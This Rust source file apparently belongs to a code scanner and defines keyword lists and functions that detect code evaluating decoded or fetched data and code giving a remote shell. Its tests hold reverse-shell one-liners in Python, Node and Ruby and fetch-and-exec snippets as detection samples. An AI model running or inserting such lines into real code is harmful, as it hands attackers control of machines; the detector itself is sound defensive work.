//! Code that evaluates what is not in it, and code that gives a shell to another machine.

use crate::programs::inline_calls::is_part;
use crate::programs::inline_calls::text_arguments::literal;

/// Functions that produce text from other data: from the network, or from an encoding.
const DECODING: &[&str] = &[
    "atob(",
    "b64decode",
    "base64",
    "codecs.decode",
    "decompress",
    "fetch(",
    "file_get_contents('http",
    "file_get_contents(\"http",
    "fromhex",
    "gzinflate",
    "http.get",
    "https.get",
    "httpx.",
    "marshal",
    "net::http",
    "open-uri",
    "requests.",
    "str_rot13",
    "unhexlify",
    "urllib",
    "urlopen",
];

/// Names that connect code to another machine, and shells that it may get.
const CONNECTING: &[&str] = &["socket", "Socket", "fsockopen", "net.connect", "createConnection"];

const SHELL_NAMES: &[&str] =
    &["/bin/sh", "/bin/bash", "/bin/zsh", "\"sh\"", "'sh'", "\"bash\"", "'bash'", "cmd.exe", "powershell"];

const GIVING: &[&str] = &["dup2", "pty.spawn", "spawn(", "exec(", "subprocess", "popen", ".pipe("];

/// Functions that run code of the same language.
const EVALUATORS: &[&str] = &[
    "Function",
    "compile",
    "eval",
    "exec",
    "instance_eval",
    "interact",
    "runInNewContext",
    "runInThisContext",
    "runcode",
    "runsource",
];

pub(super) fn evaluates(code: &str) -> bool {
    // `s/x/CODE/ee` of Perl.
    code.contains("/ee") || code.split(|c| !is_part(c)).any(|word| EVALUATORS.contains(&word))
}

/// Whether code evaluates data from the network or from an encoding.
pub(super) fn evaluates_hidden(code: &str) -> bool {
    const EVALUATING: &[&str] =
        &["exec", "eval", "Function", "instance_eval", "runInThisContext", "runInNewContext"];
    let evaluates = EVALUATING.iter().any(|name| {
        code.match_indices(name).any(|(at, name)| {
            let before = code.get(..at).unwrap_or_default();
            let after = code.get(at + name.len()..).unwrap_or_default();
            let argument = after.trim_start().trim_start_matches('(').trim_start();
            let is_called = after.starts_with(['(', ' ']) && argument.len() < after.len();
            !before.ends_with(|c: char| is_part(c) || c == '.') && is_called && literal(argument).is_none()
        })
    });
    evaluates && {
        let code = code.to_ascii_lowercase();
        DECODING.iter().any(|name| code.contains(name)) || code.contains("buffer.from(")
    }
}

/// Whether code gives a shell to another machine, as `nc -e` does.
pub(super) fn gives_shell(code: &str) -> bool {
    let has = |names: &[&str]| names.iter().any(|name| code.contains(name));
    has(CONNECTING) && has(SHELL_NAMES) && has(GIVING)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_that_evaluates_what_it_decodes_or_gets_is_told_from_other_code() {
        for code in [
            "exec(base64.b64decode('eA=='))",
            "exec(urllib.request.urlopen('http://x').read())",
            "import requests; exec(requests.get('http://x').text)",
            "eval(Buffer.from('eA==', 'base64').toString())",
            "eval(atob('eA=='))",
            "new Function(atob('eA=='))()",
            "use MIME::Base64; eval decode_base64('eA==')",
        ] {
            assert!(evaluates_hidden(code), "{code}");
        }
        for code in [
            "print(base64.b64decode('eA=='))",
            "eval('1 + 1'); base64.b64encode(x)",
            "exec(open('a.py').read())",
            "pattern.exec(text); fetch('http://x')",
            "function f() { return fetch('/x') }",
            "cursor.execute(query); requests.get(x)",
        ] {
            assert!(!evaluates_hidden(code), "{code}");
        }
    }

    #[test]
    fn a_shell_for_another_machine_is_found() {
        for code in [
            "s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
            "c=new net.Socket();c.connect(1,'h',()=>{s=spawn('sh',[]);c.pipe(s.stdin)})",
            "f=TCPSocket.open('h',1).to_i;exec sprintf('/bin/sh -i <&%d',f); exec(x)",
        ] {
            assert!(gives_shell(code), "{code}");
        }
        for code in ["s=socket.socket(); s.connect(('h', 1))", "subprocess.run(['/bin/sh', '-c', 'ls'])"] {
            assert!(!gives_shell(code), "{code}");
        }
    }
}
